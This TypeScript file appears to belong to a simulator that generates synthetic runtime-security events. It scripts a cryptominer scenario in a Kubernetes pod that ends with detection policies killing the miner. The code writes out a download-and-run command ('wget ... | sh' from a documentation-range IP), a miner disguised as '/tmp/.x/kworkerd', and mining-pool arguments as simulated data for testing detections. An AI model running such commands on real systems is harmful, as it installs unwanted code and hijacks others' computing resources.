import { containersOf } from '../cluster/cluster.ts';
import { run } from '../activity/activity.ts';
import { connect } from '../activity/network.ts';
import { digestOf } from '../digest.ts';
import type { Process } from '../process/process.ts';
import type { Scene } from '../scene.ts';

const pool = { address: '203.0.113.19', port: 3333 };
const miner = '/tmp/.x/kworkerd';

/** A miner is fetched into the risk engine's pod; a policy that enforces ends it, and its supervisor tries again. */
export function coinMiner(scene: Scene): void {
  const engine = scene.random.pick(containersOf(scene.cluster, 'risk-engine-deployment'));
  const shell = scene.exec(engine.main, {
    binary: '/bin/sh',
    arguments: '-c "wget -qO- http://203.0.113.19/i.sh | sh"',
  });
  scene.wait(2, 6);
  fetch(scene, shell);
  scene.wait(800, 2_000);
  run(scene, shell, { binary: '/bin/chmod', arguments: `755 ${miner}` }, 1, 3);
  for (let attempt = 0; attempt < 3; attempt += 1) {
    scene.wait(1_500, 4_000);
    mine(scene, shell);
  }
  scene.wait(200, 800);
  scene.throttle(engine.node, `cri-containerd-${engine.id}.scope`, 'THROTTLE_START');
  scene.wait(5_000, 9_000);
  scene.throttle(engine.node, `cri-containerd-${engine.id}.scope`, 'THROTTLE_STOP');
  scene.exit(shell, { status: 137 });
}

function fetch(scene: Scene, shell: Process): void {
  const wget = scene.exec(shell, { binary: '/usr/bin/wget', arguments: `-q http://203.0.113.19/k -O ${miner}` });
  scene.wait(10, 40);
  connect(scene, wget, { address: pool.address, port: 80 }, 'egress');
  scene.wait(400, 1_200);
  scene.exit(wget);
}

function mine(scene: Scene, shell: Process): void {
  const process = scene.exec(shell, {
    binary: miner,
    arguments: `-o stratum+tcp://${pool.address}:3333 -k --threads 4`,
  });
  scene.wait(0.5, 2);
  scene.lsm(process, {
    function_name: 'bprm_check_security',
    policy_name: 'no-programs-from-tmp',
    message: 'A program in a temporary folder was started',
    args: [{ linux_binprm_arg: { path: miner, permission: '-rwxr-xr-x' } }],
    tags: ['execution'],
    ima_hash: `sha256:${digestOf(miner)}`,
  });
  scene.wait(3, 9);
  connect(scene, process, pool, 'egress');
  scene.wait(1, 3);
  scene.kprobe(process, {
    function_name: 'tcp_sendmsg',
    args: [{ size_arg: String(scene.random.integer(180, 420)) }],
    action: 'KPROBE_ACTION_SIGKILL',
    policy_name: 'no-mining-pools',
  });
  scene.wait(0.3, 1);
  scene.exit(process, { signal: 'SIGKILL' });
}
